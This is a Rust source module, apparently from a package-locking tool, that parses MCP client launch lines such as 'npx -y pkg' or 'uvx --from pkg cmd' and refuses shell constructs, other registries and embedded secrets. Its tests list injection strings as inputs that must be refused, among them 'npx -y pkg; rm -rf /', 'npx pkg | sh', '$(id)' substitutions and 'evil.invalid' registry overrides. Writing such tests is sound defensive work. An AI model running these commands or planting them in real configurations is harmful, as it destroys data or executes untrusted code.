//! Launch lines: `npx -y pkg@1`, `uvx --from pkg cmd`, as client configs hold them, read into a spec, a command and arguments.
//!
//! Only lines that name one package of a registry (or a git URL) are read. Everything else that a config may start is refused
//! with a word on why it cannot be locked: shell constructs, extra packages (`--with`), other registries, containers.
use smol_str::SmolStr;

use crate::{
    config::command_name,
    spec::{Spec, SpecError},
    text::Untrusted,
};

/// A launch line, understood.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LaunchLine {
    /// The package.
    pub spec: Spec,
    /// The command of the package, where it is not the package's default one.
    pub command: Option<SmolStr>,
    /// What the server is given.
    pub args: Vec<String>,
    /// Names of the variables that the line sets before the launcher (`NAME=value npx …`). The values are dropped: they are
    /// often secrets, and no file of the project may hold them.
    pub env: Vec<String>,
}

/// What `add` accepts: a spec, or a launch line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request {
    /// The package.
    pub spec: Spec,
    /// See [`LaunchLine::command`].
    pub command: Option<SmolStr>,
    /// See [`LaunchLine::args`].
    pub args: Vec<String>,
    /// See [`LaunchLine::env`].
    pub env: Vec<String>,
}

/// Why a launch line was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum LaunchError {
    /// Quotes that do not close. The line is not repeated: it may hold secrets.
    #[error("the launch line has quotes that do not close")]
    Quotes,
    /// `;`, `|`, `$(…)` and their kin.
    #[error("`{0}` is a shell construct; only one plain command can be locked")]
    Shell(&'static str),
    /// `$NAME`: what it stands for is known to a shell only.
    #[error("`$` names a variable of a shell, and no shell runs here")]
    Variable,
    /// `=value` before the launcher, with something that is no variable's name.
    #[error("the launch line sets a variable whose name is not made of letters, digits and `_`")]
    Assignment,
    /// A program that starts no package.
    #[error("`{program}` cannot be locked: {why}")]
    Unsupported {
        /// The program as written.
        program: String,
        /// Why not.
        why: &'static str,
    },
    /// An address of a running server. Not repeated: it may hold a token.
    #[error("a remote server cannot be locked: there is no artifact to pin")]
    Remote,
    /// An option with a meaning that a lock cannot keep.
    #[error("`{option}` of {program} cannot be locked: {why}")]
    Option {
        /// The launcher.
        program: &'static str,
        /// The option as written.
        option: String,
        /// Why not.
        why: &'static str,
    },
    /// The line ends before it names a package.
    #[error("the launch line names no package")]
    NoPackage,
    /// The package is malformed.
    #[error(transparent)]
    Spec(#[from] SpecError),
}

impl LaunchError {
    /// What to try instead.
    pub fn hint(&self) -> Option<String> {
        match self {
            Self::Spec(error) => error.hint(),
            Self::Variable => Some("write the value, or put the word in single quotes if the `$` is meant".to_owned()),
            Self::Unsupported { .. } => {
                Some("name the package itself: npm:NAME, pypi:NAME or git+https://…".to_owned())
            }
            _ => None,
        }
    }
}

impl Request {
    /// Reads a spec or, when the text has white space or starts with a launcher, a launch line.
    pub fn parse(text: &str) -> Result<Self, LaunchError> {
        let text = text.trim();
        let explicit = ["npm:", "pypi:", "pkg:", "git+"].iter().any(|prefix| text.starts_with(prefix));
        if !explicit && text.contains(char::is_whitespace) {
            let LaunchLine { spec, command, args, env } = LaunchLine::parse(text)?;
            return Ok(Self { spec, command, args, env });
        }
        Ok(Self { spec: text.parse()?, command: None, args: Vec::new(), env: Vec::new() })
    }
}

/// Launchers with the family they belong to.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Family {
    Npm(&'static str),
    Uvx(&'static str),
    Pipx(&'static str),
}

/// Launchers that run a package with a command of their own: program, those words, and what they make.
const WITH_SUBCOMMAND: &[(&str, &[&str], Family)] = &[
    ("npm", &["exec"], Family::Npm("npm exec")),
    ("npm", &["x"], Family::Npm("npm exec")),
    ("bun", &["x"], Family::Npm("bunx")),
    ("pnpm", &["dlx"], Family::Npm("pnpm dlx")),
    ("yarn", &["dlx"], Family::Npm("yarn dlx")),
    ("uv", &["tool", "run"], Family::Uvx("uv tool run")),
    ("pipx", &["run"], Family::Pipx("pipx run")),
];

impl LaunchLine {
    /// Reads one string, split as a POSIX shell would. What only a shell could do (several commands, pipes, redirections,
    /// substitution, variables) is refused.
    pub fn parse(line: &str) -> Result<Self, LaunchError> {
        let line = line.trim();
        refuse_shell(line)?;
        let mut words = shell_words::split(line).map_err(|_| LaunchError::Quotes)?;
        // A Windows path that was not quoted lost its backslashes above; it is the program, up to the first space.
        let first = line.split_ascii_whitespace().next().unwrap_or_default();
        if first.as_bytes().get(1) == Some(&b':')
            && first.contains('\\')
            && let Some(program) = words.first_mut()
        {
            first.clone_into(program);
        }
        Self::from_words(&words)
    }

    /// Reads a command and its arguments, as no shell will see them: an argument may hold any character.
    pub fn from_words(words: &[String]) -> Result<Self, LaunchError> {
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        let (env, words) = split_env(&words)?;
        let (program, words) = words.split_first().ok_or(LaunchError::NoPackage)?;
        // On Windows, configs wrap launchers as `cmd /c npx …`.
        if base(program) == "cmd" {
            let at = words.iter().position(|word| word.eq_ignore_ascii_case("/c"));
            let Some(at) = at.filter(|at| words[..*at].iter().all(|word| word.starts_with('/'))) else {
                return Err(unsupported(program, "it is a shell"));
            };
            // cmd is a shell after all, and reads these in any word.
            let special = ["&", "|", "<", ">", "^", "%"];
            if let Some(sign) = special.iter().find(|sign| words[at..].iter().any(|word| word.contains(**sign))) {
                return Err(LaunchError::Shell(sign));
            }
            let (program, words) = words[at + 1..].split_first().ok_or(LaunchError::NoPackage)?;
            return read_launcher(program, words, env);
        }
        read_launcher(program, words, env)
    }
}

fn read_launcher(program: &str, words: &[&str], env: Vec<String>) -> Result<LaunchLine, LaunchError> {
    if program.contains("://") {
        return Err(LaunchError::Remote);
    }
    let name = base(program);
    let plain = match name.as_str() {
        "npx" => Some(Family::Npm("npx")),
        "bunx" => Some(Family::Npm("bunx")),
        "pnpx" => Some(Family::Npm("pnpm dlx")),
        "uvx" => Some(Family::Uvx("uvx")),
        _ => None,
    };
    if let Some(family) = plain {
        return read_family(family, words, env);
    }
    for (launcher, subcommand, family) in WITH_SUBCOMMAND {
        // Options may stand before the command: `pnpm --package=x dlx y`.
        let at = words.iter().position(|word| !word.starts_with('-')).unwrap_or(words.len());
        if *launcher == name && words[at..].starts_with(subcommand) {
            let rest: Vec<&str> = words[..at].iter().chain(&words[at + subcommand.len()..]).copied().collect();
            return read_family(*family, &rest, env);
        }
    }
    Err(unsupported(
        program,
        match name.as_str() {
            "docker" | "podman" => "containers are not supported yet",
            "node" | "deno" | "python" | "python3" | "py" | "uv" | "bun" => {
                "it runs a file of this machine, not a package"
            }
            "sh" | "bash" | "zsh" | "fish" | "pwsh" | "powershell" => "it is a shell",
            "npm" | "pnpm" | "yarn" | "pipx" => "only its command that runs a package can be",
            _ => "it is no known launcher of packages",
        },
    ))
}

fn read_family(family: Family, words: &[&str], env: Vec<String>) -> Result<LaunchLine, LaunchError> {
    let line = match family {
        Family::Npm(name) => npm_line(name, words),
        Family::Uvx(name) => python_line(name, "--from", words),
        Family::Pipx(name) => python_line(name, "--spec", words),
    }?;
    Ok(LaunchLine { env, ..line })
}

/// Takes `NAME=value` words (after `env`, if it is there) from the front, and keeps the names.
fn split_env<'w, 'l>(words: &'w [&'l str]) -> Result<(Vec<String>, &'w [&'l str]), LaunchError> {
    let words = match words.split_first() {
        Some((first, rest)) if base(first) == "env" => rest,
        _ => words,
    };
    let count =
        words.iter().take_while(|word| word.split_once('=').is_some_and(|(name, _)| is_near_name(name))).count();
    let mut names: Vec<String> = Vec::new();
    for word in &words[..count] {
        let name = word.split('=').next().unwrap_or_default();
        if !crate::config::is_env_name(name) {
            return Err(LaunchError::Assignment);
        }
        if !names.iter().any(|known| known == name) {
            names.push(name.to_owned());
        }
    }
    Ok((names, &words[count..]))
}

/// Whether what stands before `=` is meant as a variable's name rather than as an option or a path.
fn is_near_name(name: &str) -> bool {
    !name.starts_with('-') && !name.contains(['/', '\\'])
}

/// Finds what a POSIX shell would act on (POSIX.1-2024, Shell Command Language, 2.2 Quoting).
fn refuse_shell(line: &str) -> Result<(), LaunchError> {
    let mut quote = None;
    // Whether only digits were read of the current word: `2>file` redirects, `name>=1` is what people write for uvx.
    let mut only_digits = true;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some('\''), '\'') => quote = None,
            (Some('\''), _) => {}
            (_, '\\') => {
                let _escaped = chars.next();
            }
            (Some(_), '"') => quote = None,
            (None, '\'' | '"') => quote = Some(c),
            (_, '`') => return Err(LaunchError::Shell("`")),
            (_, '$') => match chars.peek() {
                Some('(') => return Err(LaunchError::Shell("$(")),
                Some(c) if c.is_ascii_alphanumeric() || "{_*@#?$!-'".contains(*c) => return Err(LaunchError::Variable),
                _ => {}
            },
            (None, ';') => return Err(LaunchError::Shell(";")),
            (None, '|') => return Err(LaunchError::Shell("|")),
            (None, '&') => return Err(LaunchError::Shell("&")),
            (None, '<') if only_digits => return Err(LaunchError::Shell("<")),
            (None, '>') if only_digits => return Err(LaunchError::Shell(">")),
            (None, '(' | ')') => return Err(LaunchError::Shell("(")),
            (None, '\n' | '\r') => return Err(LaunchError::Shell("line break")),
            _ => {}
        }
        only_digits = quote.is_none() && (c.is_ascii_whitespace() || only_digits && c.is_ascii_digit());
    }
    Ok(())
}

fn unsupported(program: &str, why: &'static str) -> LaunchError {
    // Without folders and what follows `=`: neither helps, and both may hold what nobody wants to see printed.
    LaunchError::Unsupported { program: option_name(&base(program)), why }
}

/// The program without folder and Windows extension, in lower case, as Windows finds it.
pub(crate) fn base(program: &str) -> String {
    let name = program.rsplit(['/', '\\']).next().unwrap_or(program).to_ascii_lowercase();
    let stem = [".cmd", ".exe", ".bat", ".ps1"].iter().find_map(|extension| name.strip_suffix(extension));
    stem.map_or_else(|| name.clone(), str::to_owned)
}

/// An option without its value, which may be a secret.
fn option_name(word: &str) -> String {
    Untrusted::new(word.split(['=', ' ']).next().unwrap_or_default()).excerpt(40)
}

/// Takes `--name value` or `--name=value`.
fn value_of<'w>(
    word: &'w str,
    names: &[&str],
    rest: &mut impl Iterator<Item = &'w str>,
) -> Result<Option<&'w str>, LaunchError> {
    for name in names {
        if word == *name {
            return rest.next().map(Some).ok_or(LaunchError::NoPackage);
        }
        if name.starts_with("--")
            && let Some(value) = word.strip_prefix(name).and_then(|tail| tail.strip_prefix('='))
        {
            return Ok(Some(value));
        }
    }
    Ok(None)
}

fn npm_line(program: &'static str, words: &[&str]) -> Result<LaunchLine, LaunchError> {
    let refuse = |option: &str, why| LaunchError::Option { program, option: option_name(option), why };
    let mut words = words.iter().copied();
    let mut package: Option<&str> = None;
    let mut command: Option<&str> = None;
    while let Some(word) = words.next() {
        if let Some(value) = value_of(word, &["--package", "-p"], &mut words)? {
            if package.replace(value).is_some() {
                return Err(refuse(word, "only one package can be locked as one server"));
            }
            continue;
        }
        match word {
            "-y" | "--yes" | "-n" | "--no" | "-q" | "--quiet" | "--silent" | "-s" | "--no-install"
            | "--prefer-offline" | "--prefer-online" | "--bun" | "--ignore-scripts" | "--ignore-existing" | "--" => {}
            "-c" | "--call" => return Err(refuse(word, "it runs a shell command")),
            _ if word.starts_with("--registry") => {
                return Err(refuse("--registry", "write the registry into .npmrc or [registries] of mcp.toml"));
            }
            _ if word.starts_with('-') => return Err(refuse(word, "its meaning is not known")),
            _ => {
                command = Some(word);
                break;
            }
        }
    }
    let args: Vec<String> = words.map(str::to_owned).collect();
    let (name, command) = match (package, command) {
        (Some(package), command) => (package, command),
        (None, Some(package)) => (package, None),
        (None, None) => return Err(LaunchError::NoPackage),
    };
    if let Some(prefix) = ["github:", "gitlab:", "bitbucket:", "gist:"].iter().find(|prefix| name.starts_with(**prefix))
    {
        return Err(refuse(prefix, "write the repository's git+https:// address"));
    }
    let spec = if name.starts_with("git+") { name.parse()? } else { format!("npm:{name}").parse()? };
    Ok(LaunchLine { spec, command: plain_command(program, command)?, args, env: Vec::new() })
}

fn python_line(program: &'static str, from: &str, words: &[&str]) -> Result<LaunchLine, LaunchError> {
    let refuse = |option: &str, why| LaunchError::Option { program, option: option_name(option), why };
    let mut words = words.iter().copied();
    let mut package: Option<&str> = None;
    let mut command: Option<&str> = None;
    while let Some(word) = words.next() {
        if let Some(value) = value_of(word, &[from], &mut words)? {
            package = Some(value);
            continue;
        }
        // The Python version is this machine's business; the lock covers several.
        if value_of(word, &["--python", "-p"], &mut words)?.is_some() {
            continue;
        }
        match word {
            "-q" | "--quiet" | "-v" | "--verbose" | "--isolated" | "--no-cache" | "--refresh" | "-n"
            | "--no-progress" | "--" => {}
            _ if word.starts_with("--with") || word == "-w" => {
                return Err(refuse(word, "packages beside the server are not part of its closure"));
            }
            _ if word.starts_with("--exclude-newer") => {
                return Err(refuse(word, "use `mcpsec add --as-of DATE`"));
            }
            _ if word.contains("index") || word == "-i" || word == "--pip-args" => {
                return Err(refuse(word, "write the index into uv.toml, pip.conf or [registries] of mcp.toml"));
            }
            _ if word.starts_with('-') => return Err(refuse(word, "its meaning is not known")),
            _ => {
                command = Some(word);
                break;
            }
        }
    }
    let args: Vec<String> = words.map(str::to_owned).collect();
    let command = command.or(package).ok_or(LaunchError::NoPackage)?;
    let spec_of = |text: &str| -> Result<Spec, SpecError> {
        if text.starts_with("git+") { text.parse() } else { format!("pypi:{text}").parse() }
    };
    match package {
        Some(package) => {
            let spec = spec_of(package)?;
            // `--from pkg pkg` names the default command.
            let default =
                matches!(&spec, Spec::Pypi(spec) if spec.name.as_str() == command || spec.name.as_written() == command);
            let command = if default || command == package { None } else { plain_command(program, Some(command))? };
            Ok(LaunchLine { spec, command, args, env: Vec::new() })
        }
        None => Ok(LaunchLine { spec: spec_of(command)?, command: None, args, env: Vec::new() }),
    }
}

fn plain_command(program: &'static str, command: Option<&str>) -> Result<Option<SmolStr>, LaunchError> {
    let Some(command) = command else { return Ok(None) };
    command_name(command).map(Some).map_err(|_| LaunchError::Option {
        program,
        option: Untrusted::new(command).excerpt(40),
        why: "the command must be a plain name",
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(line: &str) -> String {
        match LaunchLine::parse(line) {
            Ok(line) => format!("{} | {} | {}", line.spec, line.command.unwrap_or_default(), line.args.join(" ")),
            Err(error) => format!("error: {error}"),
        }
    }

    #[test]
    fn launchers_and_their_flags() {
        for (line, want) in [
            ("npx -y pkg@1", "npm:pkg@1 |  | "),
            ("npx -y @scope/pkg@latest /tmp --flag", "npm:@scope/pkg@latest |  | /tmp --flag"),
            ("npx --yes --package=@a/b@1.0.0 -- cmd x", "npm:@a/b@1.0.0 | cmd | x"),
            ("npx -p pkg cmd", "npm:pkg | cmd | "),
            ("/usr/local/bin/npx.cmd pkg", "npm:pkg |  | "),
            ("cmd /c npx -y pkg", "npm:pkg |  | "),
            ("npm exec -y -- pkg", "npm:pkg |  | "),
            ("bunx --bun pkg", "npm:pkg |  | "),
            ("bun x pkg", "npm:pkg |  | "),
            ("pnpm dlx pkg@^2 a", "npm:pkg@^2 |  | a"),
            ("pnpm --package=x dlx y", "npm:x | y | "),
            ("npm --yes exec pkg", "npm:pkg |  | "),
            ("C:\\nodejs\\NPX.CMD pkg", "npm:pkg |  | "),
            ("\"C:\\Program Files\\nodejs\\npx.cmd\" pkg", "npm:pkg |  | "),
            ("cmd.exe /d /C npx -y pkg", "npm:pkg |  | "),
            ("npx pkg 'a;b' \"c|d\" '$HOME' '`id`' a=b", "npm:pkg |  | a;b c|d $HOME `id` a=b"),
            ("yarn dlx pkg", "npm:pkg |  | "),
            ("uvx mcp-server-fetch", "pypi:mcp-server-fetch |  | "),
            ("uvx mcp-server-fetch@1.2 --x", "pypi:mcp-server-fetch==1.2 |  | --x"),
            ("uvx --from mcp-server-fetch[a]>=1 run-it y", "pypi:mcp-server-fetch[a]>=1 | run-it | y"),
            ("uvx --from 'pkg' pkg", "pypi:pkg |  | "),
            ("uvx --python 3.12 pkg", "pypi:pkg |  | "),
            ("uv tool run pkg", "pypi:pkg |  | "),
            ("uvx --from git+https://h.invalid/o/r@v1 cmd", "git+https://h.invalid/o/r@v1 | cmd | "),
            ("pipx run --spec pkg==1 cmd", "pypi:pkg==1 | cmd | "),
            ("pipx run pkg", "pypi:pkg |  | "),
        ] {
            assert_eq!(read(line), want, "{line}");
        }
    }

    #[test]
    fn what_cannot_be_locked_is_refused() {
        for line in [
            "npx -y pkg; rm -rf /",
            "npx pkg && evil",
            "npx pkg | sh",
            "npx pkg $(id)",
            "npx pkg `id`",
            "npx pkg \"`id`\"",
            "npx pkg \"$(id)\"",
            "npx pkg $HOME",
            "npx pkg \"${HOME}\"",
            "npx pkg a;evil",
            "npx pkg a&evil",
            "npx pkg >out",
            "npx pkg 2>out",
            "npx pkg <(id)",
            "npx pkg\nevil",
            "cmd /c npx pkg a&evil",
            "cmd /c npx pkg %PATH%",
            "cmd npx /c pkg",
            "FOO-BAR=x npx pkg",
            "https://h.invalid/mcp x",
            "npx -c 'pkg'",
            "npx --registry https://evil.invalid pkg",
            "npx github:o/r",
            "npx -p a -p b cmd",
            "npx -p pkg ../cmd",
            "npx ./local",
            "npx --unknown pkg",
            "npx",
            "uvx --with other pkg",
            "uvx --index-url https://evil.invalid pkg",
            "docker run image",
            "node server.js",
            "bash -c 'npx pkg'",
            "cmd /k npx pkg",
            "npx 'pkg",
            "",
        ] {
            assert!(read(line).starts_with("error: "), "{line}: {}", read(line));
        }
    }

    #[test]
    fn variables_before_the_launcher_are_kept_by_name_only() {
        let line = LaunchLine::parse("A_TOKEN=s3cret B='x y' A_TOKEN=2 npx -y pkg C=d").expect("line");
        assert_eq!((line.env, line.args), (vec!["A_TOKEN".to_owned(), "B".to_owned()], vec!["C=d".to_owned()]));
        let line = LaunchLine::parse("/usr/bin/env A=s3cret uvx pkg").expect("line");
        assert_eq!(line.env, ["A"]);
    }

    #[test]
    fn arguments_of_an_argv_are_not_a_shell_line() {
        let words = ["npx", "pkg", "a;b", "$(x)", "`y`", ">z", "&&"].map(str::to_owned);
        assert_eq!(LaunchLine::from_words(&words).expect("argv").args, words[2..]);
    }

    #[test]
    fn refusals_never_repeat_a_secret() {
        for line in [
            "uvx --index-url=https://bob:s3cret@h.invalid/simple pkg",
            "uvx --index-url https://bob:s3cret@h.invalid/simple pkg",
            "npx --api-key=s3cret pkg",
            "npx https://bob:s3cret@h.invalid/x.tgz",
            "npx -p https://s3cret@h.invalid/x.tgz cmd",
            "uvx --from https://bob:s3cret@h.invalid/x cmd",
            "uvx --from pkg@https://bob:s3cret@h.invalid/x cmd",
            "uvx --from 'pkg @ https://bob:s3cret@h.invalid/x' cmd",
            "https://bob:s3cret@h.invalid/x",
            "https://bob:s3cret@h.invalid/x y",
            "http://h.invalid/?key=s3cret y",
            "A=s3cret unknown pkg",
            "A=s3cret",
            "A.B=s3cret npx pkg",
            "A=s3cret 'npx",
            "git+https://bob:s3cret@h.invalid/",
            "git+https://bob:s3cret@h.invalid:x/o/r",
            "pkg:npm/x@1?token=s3cret",
            "pkg:npm/x@1?token=s3cret&",
            "npx pkg@https://bob:s3cret@h.invalid",
        ] {
            let error = Request::parse(line).expect_err(line);
            let shown = format!("{error} {error:?} {:?}", error.hint());
            assert!(!shown.contains("s3cret"), "{line}: {shown}");
        }
    }

    #[test]
    fn requests_are_specs_or_lines() {
        assert_eq!(Request::parse("npm:zod@>=1 <3").expect("spec").spec.to_string(), "npm:zod@>=1 <3");
        assert_eq!(Request::parse("npx -y zod").expect("line").spec.to_string(), "npm:zod");
        assert!(Request::parse("zod").is_err());
    }
}
